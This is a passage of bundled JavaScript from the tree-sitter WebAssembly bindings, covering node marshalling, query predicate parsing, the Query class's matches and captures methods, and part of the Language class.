          if (this.startIndex >= edit.oldEndIndex) {
            this.startIndex = edit.newEndIndex + (this.startIndex - edit.oldEndIndex);
            let subbedPointRow;
            let subbedPointColumn;
            if (this.startPosition.row > edit.oldEndPosition.row) {
              subbedPointRow = this.startPosition.row - edit.oldEndPosition.row;
              subbedPointColumn = this.startPosition.column;
            } else {
              subbedPointRow = 0;
              subbedPointColumn = this.startPosition.column;
              if (this.startPosition.column >= edit.oldEndPosition.column) {
                subbedPointColumn = this.startPosition.column - edit.oldEndPosition.column;
              }
            }
            if (subbedPointRow > 0) {
              this.startPosition.row += subbedPointRow;
              this.startPosition.column = subbedPointColumn;
            } else {
              this.startPosition.column += subbedPointColumn;
            }
          } else if (this.startIndex > edit.startIndex) {
            this.startIndex = edit.newEndIndex;
            this.startPosition.row = edit.newEndPosition.row;
            this.startPosition.column = edit.newEndPosition.column;
          }
        }
        /** Get the S-expression representation of this node. */
        toString() {
          marshalNode(this);
          const address = C._ts_node_to_string_wasm(this.tree[0]);
          const result = C.AsciiToString(address);
          C._free(address);
          return result;
        }
      };
      function unmarshalCaptures(query, tree, address, patternIndex, result) {
        for (let i2 = 0, n = result.length; i2 < n; i2++) {
          const captureIndex = C.getValue(address, "i32");
          address += SIZE_OF_INT;
          const node = unmarshalNode(tree, address);
          address += SIZE_OF_NODE;
          result[i2] = { patternIndex, name: query.captureNames[captureIndex], node };
        }
        return address;
      }
      __name(unmarshalCaptures, "unmarshalCaptures");
      function marshalNode(node, index = 0) {
        let address = TRANSFER_BUFFER + index * SIZE_OF_NODE;
        C.setValue(address, node.id, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, node.startIndex, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, node.startPosition.row, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, node.startPosition.column, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, node[0], "i32");
      }
      __name(marshalNode, "marshalNode");
      function unmarshalNode(tree, address = TRANSFER_BUFFER) {
        const id = C.getValue(address, "i32");
        address += SIZE_OF_INT;
        if (id === 0) return null;
        const index = C.getValue(address, "i32");
        address += SIZE_OF_INT;
        const row = C.getValue(address, "i32");
        address += SIZE_OF_INT;
        const column = C.getValue(address, "i32");
        address += SIZE_OF_INT;
        const other = C.getValue(address, "i32");
        const result = new Node(INTERNAL, {
          id,
          tree,
          startIndex: index,
          startPosition: { row, column },
          other
        });
        return result;
      }
      __name(unmarshalNode, "unmarshalNode");
      function marshalTreeCursor(cursor, address = TRANSFER_BUFFER) {
        C.setValue(address + 0 * SIZE_OF_INT, cursor[0], "i32");
        C.setValue(address + 1 * SIZE_OF_INT, cursor[1], "i32");
        C.setValue(address + 2 * SIZE_OF_INT, cursor[2], "i32");
        C.setValue(address + 3 * SIZE_OF_INT, cursor[3], "i32");
      }
      __name(marshalTreeCursor, "marshalTreeCursor");
      function unmarshalTreeCursor(cursor) {
        cursor[0] = C.getValue(TRANSFER_BUFFER + 0 * SIZE_OF_INT, "i32");
        cursor[1] = C.getValue(TRANSFER_BUFFER + 1 * SIZE_OF_INT, "i32");
        cursor[2] = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
        cursor[3] = C.getValue(TRANSFER_BUFFER + 3 * SIZE_OF_INT, "i32");
      }
      __name(unmarshalTreeCursor, "unmarshalTreeCursor");
      function marshalPoint(address, point) {
        C.setValue(address, point.row, "i32");
        C.setValue(address + SIZE_OF_INT, point.column, "i32");
      }
      __name(marshalPoint, "marshalPoint");
      function unmarshalPoint(address) {
        const result = {
          row: C.getValue(address, "i32") >>> 0,
          column: C.getValue(address + SIZE_OF_INT, "i32") >>> 0
        };
        return result;
      }
      __name(unmarshalPoint, "unmarshalPoint");
      function marshalRange(address, range) {
        marshalPoint(address, range.startPosition);
        address += SIZE_OF_POINT;
        marshalPoint(address, range.endPosition);
        address += SIZE_OF_POINT;
        C.setValue(address, range.startIndex, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, range.endIndex, "i32");
        address += SIZE_OF_INT;
      }
      __name(marshalRange, "marshalRange");
      function unmarshalRange(address) {
        const result = {};
        result.startPosition = unmarshalPoint(address);
        address += SIZE_OF_POINT;
        result.endPosition = unmarshalPoint(address);
        address += SIZE_OF_POINT;
        result.startIndex = C.getValue(address, "i32") >>> 0;
        address += SIZE_OF_INT;
        result.endIndex = C.getValue(address, "i32") >>> 0;
        return result;
      }
      __name(unmarshalRange, "unmarshalRange");
      function marshalEdit(edit, address = TRANSFER_BUFFER) {
        marshalPoint(address, edit.startPosition);
        address += SIZE_OF_POINT;
        marshalPoint(address, edit.oldEndPosition);
        address += SIZE_OF_POINT;
        marshalPoint(address, edit.newEndPosition);
        address += SIZE_OF_POINT;
        C.setValue(address, edit.startIndex, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, edit.oldEndIndex, "i32");
        address += SIZE_OF_INT;
        C.setValue(address, edit.newEndIndex, "i32");
        address += SIZE_OF_INT;
      }
      __name(marshalEdit, "marshalEdit");
      function unmarshalLanguageMetadata(address) {
        const major_version = C.getValue(address, "i32");
        const minor_version = C.getValue(address += SIZE_OF_INT, "i32");
        const patch_version = C.getValue(address += SIZE_OF_INT, "i32");
        return { major_version, minor_version, patch_version };
      }
      __name(unmarshalLanguageMetadata, "unmarshalLanguageMetadata");
      var PREDICATE_STEP_TYPE_CAPTURE = 1;
      var PREDICATE_STEP_TYPE_STRING = 2;
      var QUERY_WORD_REGEX = /[\w-]+/g;
      var CaptureQuantifier = {
        Zero: 0,
        ZeroOrOne: 1,
        ZeroOrMore: 2,
        One: 3,
        OneOrMore: 4
      };
      var isCaptureStep = /* @__PURE__ */ __name((step) => step.type === "capture", "isCaptureStep");
      var isStringStep = /* @__PURE__ */ __name((step) => step.type === "string", "isStringStep");
      var QueryErrorKind = {
        Syntax: 1,
        NodeName: 2,
        FieldName: 3,
        CaptureName: 4,
        PatternStructure: 5
      };
      var QueryError = class _QueryError extends Error {
        constructor(kind, info2, index, length) {
          super(_QueryError.formatMessage(kind, info2));
          this.kind = kind;
          this.info = info2;
          this.index = index;
          this.length = length;
          this.name = "QueryError";
        }
        static {
          __name(this, "QueryError");
        }
        /** Formats an error message based on the error kind and info */
        static formatMessage(kind, info2) {
          switch (kind) {
            case QueryErrorKind.NodeName:
              return `Bad node name '${info2.word}'`;
            case QueryErrorKind.FieldName:
              return `Bad field name '${info2.word}'`;
            case QueryErrorKind.CaptureName:
              return `Bad capture name @${info2.word}`;
            case QueryErrorKind.PatternStructure:
              return `Bad pattern structure at offset ${info2.suffix}`;
            case QueryErrorKind.Syntax:
              return `Bad syntax at offset ${info2.suffix}`;
          }
        }
      };
      function parseAnyPredicate(steps, index, operator, textPredicates) {
        if (steps.length !== 3) {
          throw new Error(
            `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}`
          );
        }
        if (!isCaptureStep(steps[1])) {
          throw new Error(
            `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}"`
          );
        }
        const isPositive = operator === "eq?" || operator === "any-eq?";
        const matchAll = !operator.startsWith("any-");
        if (isCaptureStep(steps[2])) {
          const captureName1 = steps[1].name;
          const captureName2 = steps[2].name;
          textPredicates[index].push((captures) => {
            const nodes1 = [];
            const nodes2 = [];
            for (const c of captures) {
              if (c.name === captureName1) nodes1.push(c.node);
              if (c.name === captureName2) nodes2.push(c.node);
            }
            const compare = /* @__PURE__ */ __name((n1, n2, positive) => {
              return positive ? n1.text === n2.text : n1.text !== n2.text;
            }, "compare");
            return matchAll ? nodes1.every((n1) => nodes2.some((n2) => compare(n1, n2, isPositive))) : nodes1.some((n1) => nodes2.some((n2) => compare(n1, n2, isPositive)));
          });
        } else {
          const captureName = steps[1].name;
          const stringValue2 = steps[2].value;
          const matches = /* @__PURE__ */ __name((n) => n.text === stringValue2, "matches");
          const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue2, "doesNotMatch");
          textPredicates[index].push((captures) => {
            const nodes = [];
            for (const c of captures) {
              if (c.name === captureName) nodes.push(c.node);
            }
            const test = isPositive ? matches : doesNotMatch;
            return matchAll ? nodes.every(test) : nodes.some(test);
          });
        }
      }
      __name(parseAnyPredicate, "parseAnyPredicate");
      function parseMatchPredicate(steps, index, operator, textPredicates) {
        if (steps.length !== 3) {
          throw new Error(
            `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}.`
          );
        }
        if (steps[1].type !== "capture") {
          throw new Error(
            `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
          );
        }
        if (steps[2].type !== "string") {
          throw new Error(
            `Second argument of \`#${operator}\` predicate must be a string. Got @${steps[2].name}.`
          );
        }
        const isPositive = operator === "match?" || operator === "any-match?";
        const matchAll = !operator.startsWith("any-");
        const captureName = steps[1].name;
        const regex = new RegExp(steps[2].value);
        textPredicates[index].push((captures) => {
          const nodes = [];
          for (const c of captures) {
            if (c.name === captureName) nodes.push(c.node.text);
          }
          const test = /* @__PURE__ */ __name((text, positive) => {
            return positive ? regex.test(text) : !regex.test(text);
          }, "test");
          if (nodes.length === 0) return !isPositive;
          return matchAll ? nodes.every((text) => test(text, isPositive)) : nodes.some((text) => test(text, isPositive));
        });
      }
      __name(parseMatchPredicate, "parseMatchPredicate");
      function parseAnyOfPredicate(steps, index, operator, textPredicates) {
        if (steps.length < 2) {
          throw new Error(
            `Wrong number of arguments to \`#${operator}\` predicate. Expected at least 1. Got ${steps.length - 1}.`
          );
        }
        if (steps[1].type !== "capture") {
          throw new Error(
            `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
          );
        }
        const isPositive = operator === "any-of?";
        const captureName = steps[1].name;
        const stringSteps = steps.slice(2);
        if (!stringSteps.every(isStringStep)) {
          throw new Error(
            `Arguments to \`#${operator}\` predicate must be strings.".`
          );
        }
        const values = stringSteps.map((s) => s.value);
        textPredicates[index].push((captures) => {
          const nodes = [];
          for (const c of captures) {
            if (c.name === captureName) nodes.push(c.node.text);
          }
          if (nodes.length === 0) return !isPositive;
          return nodes.every((text) => values.includes(text)) === isPositive;
        });
      }
      __name(parseAnyOfPredicate, "parseAnyOfPredicate");
      function parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties) {
        if (steps.length < 2 || steps.length > 3) {
          throw new Error(
            `Wrong number of arguments to \`#${operator}\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`
          );
        }
        if (!steps.every(isStringStep)) {
          throw new Error(
            `Arguments to \`#${operator}\` predicate must be strings.".`
          );
        }
        const properties = operator === "is?" ? assertedProperties : refutedProperties;
        if (!properties[index]) properties[index] = {};
        properties[index][steps[1].value] = steps[2]?.value ?? null;
      }
      __name(parseIsPredicate, "parseIsPredicate");
      function parseSetDirective(steps, index, setProperties) {
        if (steps.length < 2 || steps.length > 3) {
          throw new Error(`Wrong number of arguments to \`#set!\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`);
        }
        if (!steps.every(isStringStep)) {
          throw new Error(`Arguments to \`#set!\` predicate must be strings.".`);
        }
        if (!setProperties[index]) setProperties[index] = {};
        setProperties[index][steps[1].value] = steps[2]?.value ?? null;
      }
      __name(parseSetDirective, "parseSetDirective");
      function parsePattern(index, stepType, stepValueId, captureNames, stringValues, steps, textPredicates, predicates, setProperties, assertedProperties, refutedProperties) {
        if (stepType === PREDICATE_STEP_TYPE_CAPTURE) {
          const name2 = captureNames[stepValueId];
          steps.push({ type: "capture", name: name2 });
        } else if (stepType === PREDICATE_STEP_TYPE_STRING) {
          steps.push({ type: "string", value: stringValues[stepValueId] });
        } else if (steps.length > 0) {
          if (steps[0].type !== "string") {
            throw new Error("Predicates must begin with a literal value");
          }
          const operator = steps[0].value;
          switch (operator) {
            case "any-not-eq?":
            case "not-eq?":
            case "any-eq?":
            case "eq?":
              parseAnyPredicate(steps, index, operator, textPredicates);
              break;
            case "any-not-match?":
            case "not-match?":
            case "any-match?":
            case "match?":
              parseMatchPredicate(steps, index, operator, textPredicates);
              break;
            case "not-any-of?":
            case "any-of?":
              parseAnyOfPredicate(steps, index, operator, textPredicates);
              break;
            case "is?":
            case "is-not?":
              parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties);
              break;
            case "set!":
              parseSetDirective(steps, index, setProperties);
              break;
            default:
              predicates[index].push({ operator, operands: steps.slice(1) });
          }
          steps.length = 0;
        }
      }
      __name(parsePattern, "parsePattern");
      var Query = class {
        static {
          __name(this, "Query");
        }
        /** @internal */
        [0] = 0;
        // Internal handle for WASM
        /** @internal */
        exceededMatchLimit;
        /** @internal */
        textPredicates;
        /** The names of the captures used in the query. */
        captureNames;
        /** The quantifiers of the captures used in the query. */
        captureQuantifiers;
        /**
         * The other user-defined predicates associated with the given index.
         *
         * This includes predicates with operators other than:
         * - `match?`
         * - `eq?` and `not-eq?`
         * - `any-of?` and `not-any-of?`
         * - `is?` and `is-not?`
         * - `set!`
         */
        predicates;
        /** The properties for predicates with the operator `set!`. */
        setProperties;
        /** The properties for predicates with the operator `is?`. */
        assertedProperties;
        /** The properties for predicates with the operator `is-not?`. */
        refutedProperties;
        /** The maximum number of in-progress matches for this cursor. */
        matchLimit;
        /**
         * Create a new query from a string containing one or more S-expression
         * patterns.
         *
         * The query is associated with a particular language, and can only be run
         * on syntax nodes parsed with that language. References to Queries can be
         * shared between multiple threads.
         *
         * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
         */
        constructor(language, source) {
          const sourceLength = C.lengthBytesUTF8(source);
          const sourceAddress = C._malloc(sourceLength + 1);
          C.stringToUTF8(source, sourceAddress, sourceLength + 1);
          const address = C._ts_query_new(
            language[0],
            sourceAddress,
            sourceLength,
            TRANSFER_BUFFER,
            TRANSFER_BUFFER + SIZE_OF_INT
          );
          if (!address) {
            const errorId = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
            const errorByte = C.getValue(TRANSFER_BUFFER, "i32");
            const errorIndex = C.UTF8ToString(sourceAddress, errorByte).length;
            const suffix = source.slice(errorIndex, errorIndex + 100).split("\n")[0];
            const word = suffix.match(QUERY_WORD_REGEX)?.[0] ?? "";
            C._free(sourceAddress);
            switch (errorId) {
              case QueryErrorKind.Syntax:
                throw new QueryError(QueryErrorKind.Syntax, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
              case QueryErrorKind.NodeName:
                throw new QueryError(errorId, { word }, errorIndex, word.length);
              case QueryErrorKind.FieldName:
                throw new QueryError(errorId, { word }, errorIndex, word.length);
              case QueryErrorKind.CaptureName:
                throw new QueryError(errorId, { word }, errorIndex, word.length);
              case QueryErrorKind.PatternStructure:
                throw new QueryError(errorId, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
            }
          }
          const stringCount = C._ts_query_string_count(address);
          const captureCount = C._ts_query_capture_count(address);
          const patternCount = C._ts_query_pattern_count(address);
          const captureNames = new Array(captureCount);
          const captureQuantifiers = new Array(patternCount);
          const stringValues = new Array(stringCount);
          for (let i2 = 0; i2 < captureCount; i2++) {
            const nameAddress = C._ts_query_capture_name_for_id(
              address,
              i2,
              TRANSFER_BUFFER
            );
            const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
            captureNames[i2] = C.UTF8ToString(nameAddress, nameLength);
          }
          for (let i2 = 0; i2 < patternCount; i2++) {
            const captureQuantifiersArray = new Array(captureCount);
            for (let j = 0; j < captureCount; j++) {
              const quantifier = C._ts_query_capture_quantifier_for_id(address, i2, j);
              captureQuantifiersArray[j] = quantifier;
            }
            captureQuantifiers[i2] = captureQuantifiersArray;
          }
          for (let i2 = 0; i2 < stringCount; i2++) {
            const valueAddress = C._ts_query_string_value_for_id(
              address,
              i2,
              TRANSFER_BUFFER
            );
            const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
            stringValues[i2] = C.UTF8ToString(valueAddress, nameLength);
          }
          const setProperties = new Array(patternCount);
          const assertedProperties = new Array(patternCount);
          const refutedProperties = new Array(patternCount);
          const predicates = new Array(patternCount);
          const textPredicates = new Array(patternCount);
          for (let i2 = 0; i2 < patternCount; i2++) {
            const predicatesAddress = C._ts_query_predicates_for_pattern(address, i2, TRANSFER_BUFFER);
            const stepCount = C.getValue(TRANSFER_BUFFER, "i32");
            predicates[i2] = [];
            textPredicates[i2] = [];
            const steps = new Array();
            let stepAddress = predicatesAddress;
            for (let j = 0; j < stepCount; j++) {
              const stepType = C.getValue(stepAddress, "i32");
              stepAddress += SIZE_OF_INT;
              const stepValueId = C.getValue(stepAddress, "i32");
              stepAddress += SIZE_OF_INT;
              parsePattern(
                i2,
                stepType,
                stepValueId,
                captureNames,
                stringValues,
                steps,
                textPredicates,
                predicates,
                setProperties,
                assertedProperties,
                refutedProperties
              );
            }
            Object.freeze(textPredicates[i2]);
            Object.freeze(predicates[i2]);
            Object.freeze(setProperties[i2]);
            Object.freeze(assertedProperties[i2]);
            Object.freeze(refutedProperties[i2]);
          }
          C._free(sourceAddress);
          this[0] = address;
          this.captureNames = captureNames;
          this.captureQuantifiers = captureQuantifiers;
          this.textPredicates = textPredicates;
          this.predicates = predicates;
          this.setProperties = setProperties;
          this.assertedProperties = assertedProperties;
          this.refutedProperties = refutedProperties;
          this.exceededMatchLimit = false;
        }
        /** Delete the query, freeing its resources. */
        delete() {
          C._ts_query_delete(this[0]);
          this[0] = 0;
        }
        /**
         * Iterate over all of the matches in the order that they were found.
         *
         * Each match contains the index of the pattern that matched, and a list of
         * captures. Because multiple patterns can match the same set of nodes,
         * one match may contain captures that appear *before* some of the
         * captures from a previous match.
         *
         * @param {Node} node - The node to execute the query on.
         *
         * @param {QueryOptions} options - Options for query execution.
         */
        matches(node, options = {}) {
          const startPosition = options.startPosition ?? ZERO_POINT;
          const endPosition = options.endPosition ?? ZERO_POINT;
          const startIndex = options.startIndex ?? 0;
          const endIndex = options.endIndex ?? 0;
          const matchLimit = options.matchLimit ?? 4294967295;
          const maxStartDepth = options.maxStartDepth ?? 4294967295;
          const timeoutMicros = options.timeoutMicros ?? 0;
          const progressCallback = options.progressCallback;
          if (typeof matchLimit !== "number") {
            throw new Error("Arguments must be numbers");
          }
          this.matchLimit = matchLimit;
          if (endIndex !== 0 && startIndex > endIndex) {
            throw new Error("`startIndex` cannot be greater than `endIndex`");
          }
          if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
            throw new Error("`startPosition` cannot be greater than `endPosition`");
          }
          if (progressCallback) {
            C.currentQueryProgressCallback = progressCallback;
          }
          marshalNode(node);
          C._ts_query_matches_wasm(
            this[0],
            node.tree[0],
            startPosition.row,
            startPosition.column,
            endPosition.row,
            endPosition.column,
            startIndex,
            endIndex,
            matchLimit,
            maxStartDepth,
            timeoutMicros
          );
          const rawCount = C.getValue(TRANSFER_BUFFER, "i32");
          const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
          const result = new Array(rawCount);
          this.exceededMatchLimit = Boolean(didExceedMatchLimit);
          let filteredCount = 0;
          let address = startAddress;
          for (let i2 = 0; i2 < rawCount; i2++) {
            const patternIndex = C.getValue(address, "i32");
            address += SIZE_OF_INT;
            const captureCount = C.getValue(address, "i32");
            address += SIZE_OF_INT;
            const captures = new Array(captureCount);
            address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
            if (this.textPredicates[patternIndex].every((p) => p(captures))) {
              result[filteredCount] = { pattern: patternIndex, patternIndex, captures };
              const setProperties = this.setProperties[patternIndex];
              result[filteredCount].setProperties = setProperties;
              const assertedProperties = this.assertedProperties[patternIndex];
              result[filteredCount].assertedProperties = assertedProperties;
              const refutedProperties = this.refutedProperties[patternIndex];
              result[filteredCount].refutedProperties = refutedProperties;
              filteredCount++;
            }
          }
          result.length = filteredCount;
          C._free(startAddress);
          C.currentQueryProgressCallback = null;
          return result;
        }
        /**
         * Iterate over all of the individual captures in the order that they
         * appear.
         *
         * This is useful if you don't care about which pattern matched, and just
         * want a single, ordered sequence of captures.
         *
         * @param {Node} node - The node to execute the query on.
         *
         * @param {QueryOptions} options - Options for query execution.
         */
        captures(node, options = {}) {
          const startPosition = options.startPosition ?? ZERO_POINT;
          const endPosition = options.endPosition ?? ZERO_POINT;
          const startIndex = options.startIndex ?? 0;
          const endIndex = options.endIndex ?? 0;
          const matchLimit = options.matchLimit ?? 4294967295;
          const maxStartDepth = options.maxStartDepth ?? 4294967295;
          const timeoutMicros = options.timeoutMicros ?? 0;
          const progressCallback = options.progressCallback;
          if (typeof matchLimit !== "number") {
            throw new Error("Arguments must be numbers");
          }
          this.matchLimit = matchLimit;
          if (endIndex !== 0 && startIndex > endIndex) {
            throw new Error("`startIndex` cannot be greater than `endIndex`");
          }
          if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
            throw new Error("`startPosition` cannot be greater than `endPosition`");
          }
          if (progressCallback) {
            C.currentQueryProgressCallback = progressCallback;
          }
          marshalNode(node);
          C._ts_query_captures_wasm(
            this[0],
            node.tree[0],
            startPosition.row,
            startPosition.column,
            endPosition.row,
            endPosition.column,
            startIndex,
            endIndex,
            matchLimit,
            maxStartDepth,
            timeoutMicros
          );
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
          const result = new Array();
          this.exceededMatchLimit = Boolean(didExceedMatchLimit);
          const captures = new Array();
          let address = startAddress;
          for (let i2 = 0; i2 < count; i2++) {
            const patternIndex = C.getValue(address, "i32");
            address += SIZE_OF_INT;
            const captureCount = C.getValue(address, "i32");
            address += SIZE_OF_INT;
            const captureIndex = C.getValue(address, "i32");
            address += SIZE_OF_INT;
            captures.length = captureCount;
            address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
            if (this.textPredicates[patternIndex].every((p) => p(captures))) {
              const capture = captures[captureIndex];
              const setProperties = this.setProperties[patternIndex];
              capture.setProperties = setProperties;
              const assertedProperties = this.assertedProperties[patternIndex];
              capture.assertedProperties = assertedProperties;
              const refutedProperties = this.refutedProperties[patternIndex];
              capture.refutedProperties = refutedProperties;
              result.push(capture);
            }
          }
          C._free(startAddress);
          C.currentQueryProgressCallback = null;
          return result;
        }
        /** Get the predicates for a given pattern. */
        predicatesForPattern(patternIndex) {
          return this.predicates[patternIndex];
        }
        /**
         * Disable a certain capture within a query.
         *
         * This prevents the capture from being returned in matches, and also
         * avoids any resource usage associated with recording the capture.
         */
        disableCapture(captureName) {
          const captureNameLength = C.lengthBytesUTF8(captureName);
          const captureNameAddress = C._malloc(captureNameLength + 1);
          C.stringToUTF8(captureName, captureNameAddress, captureNameLength + 1);
          C._ts_query_disable_capture(this[0], captureNameAddress, captureNameLength);
          C._free(captureNameAddress);
        }
        /**
         * Disable a certain pattern within a query.
         *
         * This prevents the pattern from matching, and also avoids any resource
         * usage associated with the pattern. This throws an error if the pattern
         * index is out of bounds.
         */
        disablePattern(patternIndex) {
          if (patternIndex >= this.predicates.length) {
            throw new Error(
              `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
            );
          }
          C._ts_query_disable_pattern(this[0], patternIndex);
        }
        /**
         * Check if, on its last execution, this cursor exceeded its maximum number
         * of in-progress matches.
         */
        didExceedMatchLimit() {
          return this.exceededMatchLimit;
        }
        /** Get the byte offset where the given pattern starts in the query's source. */
        startIndexForPattern(patternIndex) {
          if (patternIndex >= this.predicates.length) {
            throw new Error(
              `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
            );
          }
          return C._ts_query_start_byte_for_pattern(this[0], patternIndex);
        }
        /** Get the byte offset where the given pattern ends in the query's source. */
        endIndexForPattern(patternIndex) {
          if (patternIndex >= this.predicates.length) {
            throw new Error(
              `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
            );
          }
          return C._ts_query_end_byte_for_pattern(this[0], patternIndex);
        }
        /** Get the number of patterns in the query. */
        patternCount() {
          return C._ts_query_pattern_count(this[0]);
        }
        /** Get the index for a given capture name. */
        captureIndexForName(captureName) {
          return this.captureNames.indexOf(captureName);
        }
        /** Check if a given pattern within a query has a single root node. */
        isPatternRooted(patternIndex) {
          return C._ts_query_is_pattern_rooted(this[0], patternIndex) === 1;
        }
        /** Check if a given pattern within a query has a single root node. */
        isPatternNonLocal(patternIndex) {
          return C._ts_query_is_pattern_non_local(this[0], patternIndex) === 1;
        }
        /**
         * Check if a given step in a query is 'definite'.
         *
         * A query step is 'definite' if its parent pattern will be guaranteed to
         * match successfully once it reaches the step.
         */
        isPatternGuaranteedAtStep(byteIndex) {
          return C._ts_query_is_pattern_guaranteed_at_step(this[0], byteIndex) === 1;
        }
      };
      var LANGUAGE_FUNCTION_REGEX = /^tree_sitter_\w+$/;
      var Language = class _Language {
        static {
          __name(this, "Language");
        }
        /** @internal */
        [0] = 0;
        // Internal handle for WASM
        /**
         * A list of all node types in the language. The index of each type in this
         * array is its node type id.
         */
        types;
        /**
         * A list of all field names in the language. The index of each field name in
         * this array is its field id.
         */
        fields;
        /** @internal */
        constructor(internal, address) {
          assertInternal(internal);
          this[0] = address;
          this.types = new Array(C._ts_language_symbol_count(this[0]));
          for (let i2 = 0, n = this.types.length; i2 < n; i2++) {
            if (C._ts_language_symbol_type(this[0], i2) < 2) {
              this.types[i2] = C.UTF8ToString(C._ts_language_symbol_name(this[0], i2));
            }
          }
          this.fields = new Array(C._ts_language_field_count(this[0]) + 1);
          for (let i2 = 0, n = this.fields.length; i2 < n; i2++) {
            const fieldName = C._ts_language_field_name_for_id(this[0], i2);
            if (fieldName !== 0) {
              this.fields[i2] = C.UTF8ToString(fieldName);
            } else {
              this.fields[i2] = null;
            }
          }
        }
        /**
         * Gets the name of the language.
         */
        get name() {
          const ptr = C._ts_language_name(this[0]);
          if (ptr === 0) return null;
          return C.UTF8ToString(ptr);
        }
        /**
         * @deprecated since version 0.25.0, use {@link Language#abiVersion} instead
         * Gets the version of the language.
         */
        get version() {
          return C._ts_language_version(this[0]);
        }
        /**
         * Gets the ABI version of the language.
         */
        get abiVersion() {
          return C._ts_language_abi_version(this[0]);
        }
        /**
        * Get the metadata for this language. This information is generated by the
        * CLI, and relies on the language author providing the correct metadata in
        * the language's `tree-sitter.json` file.
        */
        get metadata() {
          C._ts_language_metadata(this[0]);
          const length = C.getValue(TRANSFER_BUFFER, "i32");
          const address = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          if (length === 0) return null;
          return unmarshalLanguageMetadata(address);
        }
        /**
         * Gets the number of fields in the language.
         */
        get fieldCount() {
          return this.fields.length - 1;
        }
        /**
         * Gets the number of states in the language.
         */
        get stateCount() {
          return C._ts_language_state_count(this[0]);
        }
        /**
         * Get the field id for a field name.
         */
        fieldIdForName(fieldName) {
          const result = this.fields.indexOf(fieldName);
          return result !== -1 ? result : null;
        }
        /**
         * Get the field name for a field id.
         */
        fieldNameForId(fieldId) {
          return this.fields[fieldId] ?? null;
        }
        /**
         * Get the node type id for a node type name.
         */
        idForNodeType(type, named2) {
          const typeLength = C.lengthBytesUTF8(type);
          const typeAddress = C._malloc(typeLength + 1);
          C.stringToUTF8(type, typeAddress, typeLength + 1);
          const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named2 ? 1 : 0);
          C._free(typeAddress);
          return result || null;
        }
        /**
         * Gets the number of node types in the language.
         */
        get nodeTypeCount() {
          return C._ts_language_symbol_count(this[0]);
        }
        /**
         * Get the node type name for a node type id.
         */
        nodeTypeForId(typeId) {
          const name2 = C._ts_language_symbol_name(this[0], typeId);
          return name2 ? C.UTF8ToString(name2) : null;
        }
        /**
         * Check if a node type is named.
         *
         * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/2-basic-parsing.html#named-vs-anonymous-nodes}
         */
        nodeTypeIsNamed(typeId) {
          return C._ts_language_type_is_named_wasm(this[0], typeId) ? true : false;
        }
        /**
         * Check if a node type is visible.
         */
        nodeTypeIsVisible(typeId) {
          return C._ts_language_type_is_visible_wasm(this[0], typeId) ? true : false;
        }
        /**
         * Get the supertypes ids of this language.
         *
         * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/6-static-node-types.html?highlight=supertype#supertype-nodes}
         */
        get supertypes() {
          C._ts_language_supertypes_wasm(this[0]);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = C.getValue(address, "i16");
              address += SIZE_OF_SHORT;
            }
          }
          return result;
        }
        /**
         * Get the subtype ids for a given supertype node id.
         */
        subtypes(supertype) {
          C._ts_language_subtypes_wasm(this[0], supertype);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = C.getValue(address, "i16");
              address += SIZE_OF_SHORT;
            }
          }
          return result;
        }
        /**
         * Get the next state id for a given state id and node type id.
         */
        nextState(stateId, typeId) {
          return C._ts_language_next_state(this[0], stateId, typeId);
        }
        /**
         * Create a new lookahead iterator for this language and parse state.
         *
         * This returns `null` if state is invalid for this language.
         *
         * Iterating {@link LookaheadIterator} will yield valid symbols in the given
         * parse state. Newly created lookahead iterators will return the `ERROR`
         * symbol from {@link LookaheadIterator#currentType}.
         *
